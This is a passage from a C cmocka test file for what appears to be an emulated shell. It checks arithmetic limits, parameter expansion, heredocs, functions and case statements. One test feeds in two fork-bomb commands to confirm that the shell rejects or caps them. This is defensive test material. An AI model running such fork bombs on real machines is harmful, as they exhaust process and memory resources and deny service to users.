		int k;

		strcpy(line, "echo $((");
		for (k = 0; k < 200; k++)
			strcat(line, "(");
		strcat(line, "1");
		for (k = 0; k < 200; k++)
			strcat(line, ")");
		strcat(line, "))");
		LANG_EQ(fx, line, "-sh: arithmetic syntax error\n");
	}
}

static void t_param(void **state)
{
	struct fixture *fx = *state;

	new_shell(fx, &fx->p, true);
	LANG_EQ(fx, "x=hello; echo ${#x} ${#y}", "5 0\n");
	LANG_EQ(fx, "echo ~root ~root/x ~nobody ~", "/ //x ~nobody /\n");
	LANG_EQ(fx, "echo ${y:-def} ${y-d2}; y=; echo ${y:-def}.${y-d2}.", "def d2\ndef..\n");
	LANG_EQ(fx, "echo ${z:=def}; echo $z", "def\ndef\n");
	LANG_EQ(fx, "x=a; echo ${x:+alt} ${nox:+alt}.", "alt .\n");
	LANG_EQ(fx, "echo ${q:?unset here}; echo after", "-sh: q: unset here\n");
	LANG_EQ(fx, "echo ${q:?}", "-sh: q: parameter not set or null\n");
	LANG_EQ(fx, "echo ${q?}", "-sh: q: parameter not set\n");
	LANG_EQ(fx, "x=foo.tar.gz; echo ${x#*.} ${x##*.} ${x%.*} ${x%%.*}",
		"tar.gz gz foo.tar foo\n");
	LANG_EQ(fx, "x=/usr/local/bin; echo ${x##*/} ${x%/*} ${x#/} ${x%%/*}x",
		"bin /usr/local usr/local/bin x\n");
	LANG_EQ(fx, "x=\"a*b\"; echo ${x#\"a*\"} ${x#a\\*} ${x%\"*b\"}", "b b a\n");
	LANG_EQ(fx, "x=abc; echo ${x:-1} ${x: -1} ${x:1:-1} ${x:5}.", "abc c b .\n");
	LANG_EQ(fx, "x=abcdef; echo ${x:1:3}", "bcd\n");
	LANG_EQ(fx, "x=aXbXc; echo ${x/X/-} ${x//X/-} ${x/X}", "a-bXc a-b-c abXc\n");
	LANG_EQ(fx, "echo ${x:-\"a  b\"} \"${x2:-'q'}\"", "aXbXc 'q'\n");
	LANG_EQ(fx, "set -- a b c; echo ${#@} ${#*} ${@:-z} ${10}", "5 5 a b c\n");
	LANG_EQ(fx, "echo ${!x}", "-sh: syntax error: bad substitution\n");
}

static void t_heredoc(void **state)
{
	struct fixture *fx = *state;

	new_shell(fx, &fx->p, true);
	RUN_EQ(fx, "cat <<EOF", "> ");
	RUN_EQ(fx, "a \\$HOME \\x `echo hi` \"q\" 's' $HOME $((1+1))", "> ");
	LANG_EQ(fx, "EOF", "a $HOME \\x hi \"q\" 's' / 2\n");
	RUN_EQ(fx, "cat <<E\"O\"F", "> ");
	RUN_EQ(fx, "$HOME", "> ");
	LANG_EQ(fx, "EOF", "$HOME\n");
	RUN_EQ(fx, "cat <<-EOF", "> ");
	RUN_EQ(fx, "\t\ttabbed", "> ");
	LANG_EQ(fx, "\tEOF", "tabbed\n");
	RUN_EQ(fx, "cat <<A; cat <<B", "> ");
	RUN_EQ(fx, "1", "> ");
	RUN_EQ(fx, "A", "> ");
	RUN_EQ(fx, "2", "> ");
	LANG_EQ(fx, "B", "1\n2\n");
	LANG_EQ(fx, "cat <<EOF | wc -l\na\nb\nEOF", "2\n");
	LANG_EQ(fx, "IFS=: read a b <<EOF\n1:2\nEOF\necho $a $b", "1 2\n");
	LANG_EQ(fx, "cat <<< here", "-sh: syntax error: unexpected redirection\n");
	LANG_EQ(fx, "echo x >", "-sh: syntax error: unexpected newline\n");
}

static void t_funcs_case_params(void **state)
{
	struct fixture *fx = *state;
	const char *out;

	new_shell(fx, &fx->p, true);
	LANG_EQ(fx, "f() { local x=1; echo $x; return 4; echo no; }; f; echo $?; x=2; f; echo $x",
		"1\n4\n1\n2\n");
	LANG_EQ(fx, "g() { echo $# $1 $2; shift; echo $*; }; g a b; echo $#", "2 a b\nb\n0\n");
	LANG_EQ(fx, ":(){ :|:& };:", "-sh: syntax error: bad function name\n");
	/* a fork bomb spelled with a valid name ends within the caps */
	out = run(fx, "b(){ b|b& };b; echo done");
	assert_non_null(strstr(out, "done\n" PROMPT));
	/* a function that redefines itself while it runs */
	LANG_EQ(fx, "r() { r() { echo two; }; echo one; }; r; r", "one\ntwo\n");
	LANG_EQ(fx, "case abc in a*) echo A;; *) echo other;; esac", "A\n");
	LANG_EQ(fx, "case x in a|b) echo ab;; x) echo x;; esac", "x\n");
	LANG_EQ(fx, "case \"a b\" in \"a b\") echo q;; *) echo n;; esac", "q\n");
	LANG_EQ(fx, "case '*' in \\*) echo star;; esac; case z in '*') echo no;; esac", "star\n");
	LANG_EQ(fx, "set -- a b c; echo $# $1 $2 $3", "3 a b c\n");
	LANG_EQ(fx, "set -- a b c; shift; echo $@", "b c\n");
	LANG_EQ(fx, "set -- 'a b' c; for x in \"$@\"; do echo \"[$x]\"; done", "[a b]\n[c]\n");
	LANG_EQ(fx, "set --; shift; echo $?; shift 3; echo $?", "1\n1\n");
	LANG_EQ(fx, "x=1 true; echo \"[$x]\"; nv=1 true; echo \"[$nv]\"", "[c]\n[]\n");
	LANG_EQ(fx, "set | head -3", "FUNCNAME=''\nHISTFILE='/.ash_history'\nHOME='/'\n");
	/* a script on standard input */
	LANG_EQ(fx, "echo \"echo hi; echo \\$0; exit 4; echo no\" | sh; echo $?", "hi\nsh\n4\n");
	/* nesting: argv[0] of each level in its errors */
	LANG_EQ(fx, "sh -c 'echo $0; nosuch'", "sh\nsh: nosuch: not found\n");
	RUN_EQ(fx, "sh", PROMPT);
	LANG_EQ(fx, "nosuch", "sh: nosuch: not found\n");
	RUN_EQ(fx, "exit", PROMPT);
	LANG_EQ(fx, "nosuch", "-sh: nosuch: not found\n");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(t_kill_group, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_scanner, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_mounts_nippon, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_cp_chmod_cat_echo, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_echo_rebuild, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_exec_elf, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_while_read_dd, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_andor_status, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_nodes_grow, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_budget_memory, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_budget_work, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_fetch, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_fetch_wait, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_fetch_wait_more, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_fetch_url, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_inject, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_caps, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_fs_kb, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_su_ps_kill, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_interrupt_and_eof, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_cli, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_real_persona, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_fetch_pipe_sh, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_arith, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_param, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_heredoc, setup, teardown),
	    cmocka_unit_test_setup_teardown(t_funcs_case_params, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
